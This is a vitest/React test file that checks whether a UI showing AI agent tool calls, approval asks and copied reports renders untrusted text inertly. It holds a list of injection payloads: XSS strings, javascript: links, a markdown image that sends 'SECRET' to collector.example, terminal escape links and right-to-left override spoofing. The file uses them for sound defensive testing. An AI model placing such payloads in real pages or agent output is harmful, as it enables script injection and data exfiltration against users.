import type { Ask, ToolCall } from '@callboard/core';
import { buildAgent, buildAsk, buildToolCall } from '@callboard/core/testing';
import { act, render, screen } from '@testing-library/react';
import type { ReactElement } from 'react';
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { askChunk } from './ask-card/ask-chunk.ts';
import { AskCard } from './ask-card/ask-card.tsx';
import { detailChunk } from './tool-call-detail/detail-chunk.ts';
import { ToolCallDetailModal } from './tool-call-detail/tool-call-detail-modal.tsx';
import { toolCallReport } from './tool-call-detail/tool-call-report.ts';
import { TranscriptProvider } from './transcript-provider/transcript-provider.tsx';

const attacks = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '[a](javascript:alert(1))',
  '[a](JaVa\tScRiPt:alert(1))',
  '[a](data:text/html,<script>1</script>)',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<style>*{display:none}</style>',
  '![p](https://collector.example/p.png?q=SECRET)',
  '</pre></code><script>alert(1)</script>',
  '\u001b]8;;javascript:alert(1)\u0007click\u001b]8;;\u0007',
  '\u202etxt.exe\u200b\u0000',
  'javascript:alert(1)',
];

/** A value whose every text is the attack. */
function filled<T>(value: T, attack: string): T {
  if (typeof value === 'string') return attack as T;
  if (Array.isArray(value)) return value.map((member: unknown) => filled(member, attack)) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, member]) => [key, filled(member as unknown, attack)]),
  ) as T;
}

function attacked(attack: string): ToolCall {
  const texts = {
    id: 'i',
    name: 'n',
    title: 't',
    server: 's',
    inputText: '',
    thinkingBefore: 'b',
    thinkingAfter: 'a',
    reason: 'r',
    recovered: 'x',
  };
  return buildToolCall({
    ...filled(texts, attack),
    status: 'failed',
    input: filled({ command: 'x', nested: ['y', { z: 'w' }] }, attack),
    hasOutput: true,
    output: {
      content: [
        { type: 'text', text: attack },
        { type: 'image', data: attack, mimeType: attack },
        { type: 'resource_link', uri: attack, name: attack, description: attack },
      ],
    },
    outputChannels: { stdout: attack, stderr: attack },
    error: { message: attack, code: attack, stack: attack, original: filled({ a: 'b' }, attack) },
    progress: { kind: 'determinate', fraction: 0.5, message: attack, regressions: 0 },
    ended: { at: 1_735_732_801_000 },
  });
}

const requests: string[] = [];

beforeAll(async () => {
  for (const chunk of [detailChunk, askChunk]) {
    chunk.load();
    await new Promise<void>((resolve) => void chunk.subscribe(resolve));
  }
}, 30_000);

beforeEach(() => {
  requests.length = 0;
  vi.stubGlobal('fetch', (url: unknown) => void requests.push(String(url)));
  vi.spyOn(XMLHttpRequest.prototype, 'open').mockImplementation(
    (_: string, url: string | URL) => void requests.push(String(url)),
  );
  vi.spyOn(HTMLImageElement.prototype, 'src', 'set').mockImplementation((url) => void requests.push(url));
  vi.stubGlobal('alert', () => requests.push('alert'));
});

afterEach(() => expectInert());

/** No element, attribute, link or request that is not our own. */
function expectInert(): void {
  expect(requests).toEqual([]);
  expect(
    document.querySelectorAll(
      'script, iframe, object, embed, img, style, link, form[action], base, meta[http-equiv]',
    ),
  ).toHaveLength(0);
  for (const link of document.querySelectorAll('a')) expect(link.protocol).toMatch(/^(?:https?|mailto):$/);
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name.startsWith('on')).toBe(false);
      const reaches = ['href', 'src', 'srcdoc', 'action', 'formaction', 'xlink:href', 'style'].includes(name);
      expect(reaches && /javascript:|data:text|url\(/i.test(value)).toBe(false);
    }
  }
}

function Dialog({ call }: { readonly call: ToolCall }): ReactElement {
  return (
    <TranscriptProvider motion="off">
      <ToolCallDetailModal call={call} open />
    </TranscriptProvider>
  );
}

describe.each(attacks)('outside text stays text (fault 30): %j', (attack) => {
  it.each(['error', 'input', 'output', 'thinking'])('in the tab %s of a detail', async (tab) => {
    render(<Dialog call={attacked(attack)} />);
    const dialog = await screen.findByRole('dialog');
    act(() => dialog.querySelector<HTMLElement>(`[data-tab="${tab}"]`)!.click());
    expectInert();
    expect(dialog.textContent).not.toMatch(/(?![\n\t])[\p{Cc}\u200b\u202e]/u);
  });

  it.each(['approval', 'question', 'form', 'sign-in'] as const)('in an ask of kind %s', async (kind) => {
    const ask: Partial<Ask> = {
      kind,
      title: attack,
      prompt: attack,
      url: attack,
      reason: attack,
      options: [{ id: 'a', label: attack, description: attack, role: 'choice' }],
      schema: {
        type: 'object',
        properties: { [attack]: { type: 'string', title: attack, description: attack, enum: [attack] } },
      },
      input: { command: attack },
    };
    render(
      <TranscriptProvider onAnswer={() => {}}>
        <AskCard ask={buildAsk(ask)} call={attacked(attack)} />
      </TranscriptProvider>,
    );
    expectInert();
    expect(screen.getAllByRole('button').length).toBeGreaterThan(0);
    expect(document.body.textContent).not.toMatch(/(?![\n\t])[\p{Cc}\u200b\u202e]/u);
  });

  it('in a copied report', () => {
    const report = toolCallReport(attacked(attack), {
      children: [buildAgent({ status: 'failed', name: attack, error: { message: attack } })],
    });
    expect(report).not.toMatch(/(?![\n\t])[\p{Cc}\u200b\u202e]/u);
    const outside = report.replace(/^(`{3,})\w*\n[\s\S]*?\n\1$/gm, '');
    expect(outside).not.toMatch(/(?<!\\)[<[]/);
  });
});
